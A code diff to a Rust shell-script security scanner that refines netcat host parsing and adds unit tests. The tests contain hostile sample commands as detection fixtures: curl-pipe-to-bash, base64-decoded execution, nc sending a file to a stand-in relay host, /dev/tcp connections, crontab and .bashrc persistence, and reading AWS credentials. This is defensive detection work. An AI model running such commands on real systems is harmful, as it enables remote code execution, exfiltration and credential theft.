@@ -333,7 +333,7 @@ impl Sh<'_> {
                 .iter()
                 .filter(|a| a.kind() == "process_substitution")
             {
-                self.check_substitution(*a, &loc, out, "runs");
+                self.check_substitution(*a, &loc, out, &base);
             }
         }
         if SHELLS.contains(&base.as_str())
@@ -345,7 +345,7 @@ impl Sh<'_> {
                 format!("`{base} -c` runs a command line through a shell"),
             );
             if let Some(script) = rest_nodes.get(i + 1) {
-                self.check_substitution(*script, &loc, out, "runs");
+                self.check_substitution(*script, &loc, out, &format!("{base} -c"));
                 if let Some(s) = word_const(*script, self.src)
                     && self.depth < MAX_EMBED
                 {
@@ -383,11 +383,13 @@ impl Sh<'_> {
         }
         let plain: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
         let hp = match base {
-            "nc" | "ncat" | "netcat" | "telnet" => match plain.as_slice() {
-                [h, p, ..] => p.parse().ok().and_then(|p| host_port(h, p)),
-                [h] => host_port(h, 0),
-                [] => None,
-            },
+            "nc" | "ncat" | "netcat" | "telnet" => plain.iter().enumerate().find_map(|(i, h)| {
+                if is_number(h) {
+                    return None;
+                }
+                let port = plain.get(i + 1)?.parse().ok()?;
+                host_port(h, port)
+            }),
             "ssh" | "scp" | "sftp" | "rsync" => plain.iter().find_map(|a| {
                 let h = a.split_once('@').map_or(a.as_str(), |(_, h)| h);
                 let h = h.split(':').next().unwrap_or(h);
@@ -437,13 +439,13 @@ impl Sh<'_> {
             out.emit(
                 R::RemotePipeExec,
                 loc,
-                format!("`{how}` code downloaded at run time"),
+                format!("`{how}` runs code downloaded at run time"),
             );
         } else if decodes {
             out.emit(
                 R::ObfuscatedExec,
                 loc,
-                format!("`{how}` code decoded at run time"),
+                format!("`{how}` runs code decoded at run time"),
             );
         }
         downloads || decodes
@@ -603,4 +605,92 @@ fn git_remote(args: &[String]) -> bool {
 
 fn show(p: &str) -> String {
     p.replace(UNKNOWN, "…")
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::lang::scan_one;
+
+    fn rules(src: &str) -> Vec<String> {
+        scan_one("t.sh", src).0
+    }
+
+    fn has(src: &str, want: &str) -> bool {
+        let r = rules(src);
+        let hit = r.iter().any(|x| x == want);
+        if !hit {
+            eprintln!("{want} not in {r:?}");
+        }
+        hit
+    }
+
+    #[test]
+    fn download_and_run() {
+        assert!(has(
+            "curl -fsSL https://x.example/i.sh | sudo bash\n",
+            "remote-pipe-exec@1:1"
+        ));
+        assert!(has(
+            "bash -c \"$(curl -fsSL https://x.example/i)\"\n",
+            "remote-pipe-exec@1:1"
+        ));
+        assert!(has(
+            "eval \"$(wget -qO- https://x.example/e)\"\n",
+            "remote-pipe-exec@1:1"
+        ));
+        assert!(has(
+            "source <(curl -s https://x.example/env)\n",
+            "remote-pipe-exec@1:1"
+        ));
+        assert!(!has(
+            "curl -o out.json https://x.example/a.json\n",
+            "remote-pipe-exec@1:1"
+        ));
+    }
+
+    #[test]
+    fn decoded_and_evaluated() {
+        assert!(has("echo aWQ= | base64 -d | sh\n", "obfuscated-exec@1:1"));
+        assert!(has(
+            "eval \"$(echo aWQ= | base64 --decode)\"\n",
+            "obfuscated-exec@1:1"
+        ));
+        assert!(has("eval \"$cmd\"\n", "shell-eval@1:1"));
+        assert!(has("sh -c 'ls -l'\n", "shell-c@1:1"));
+        assert!(has("$tool --version\n", "proc-spawn-dynamic@1:1"));
+    }
+
+    #[test]
+    fn programs_env_and_writes() {
+        let src = "#!/bin/bash\nout=/tmp/x\nlog() { echo \"$*\"; }\nlog start\ngit -C \"$REPO\" log -1 > \"$out\"\necho \"$API_KEY\" >> /srv/keys\nenv FOO=1 timeout 5 jq . f.json\nfor f in *.md; do wc -l \"$f\"; done\n";
+        let (r, u) = scan_one("t.sh", src);
+        let exec: Vec<&String> = u.exec.keys().collect();
+        assert_eq!(exec, vec!["env", "git", "jq", "timeout", "wc"], "{r:?}");
+        let env: Vec<&String> = u.env.keys().collect();
+        assert_eq!(env, vec!["API_KEY", "REPO"]);
+        assert_eq!(u.writes.keys().collect::<Vec<_>>(), vec!["/srv/keys"]);
+    }
+
+    #[test]
+    fn network_commands_and_dev_tcp() {
+        let (_, u) = scan_one("t.sh", "nc -w 3 relay.example.net 9001 < /etc/hostname\n");
+        assert!(u.network.is_some());
+        assert!(
+            u.hosts.contains_key("relay.example.net:9001"),
+            "{:?}",
+            u.hosts
+        );
+        let (_, u) = scan_one("t.sh", "exec 3<>/dev/tcp/203.0.113.5/80\n");
+        assert!(u.hosts.contains_key("203.0.113.5:80"), "{:?}", u.hosts);
+    }
+
+    #[test]
+    fn persistence_and_credentials() {
+        assert!(has("echo 'x' >> ~/.bashrc\n", "persistence@1:13"));
+        assert!(has(
+            "(crontab -l; echo '* * * * * x') | crontab -\n",
+            "persistence@1:2"
+        ));
+        assert!(has("cat ~/.aws/credentials\n", "credential-path@1:5"));
+    }
 }
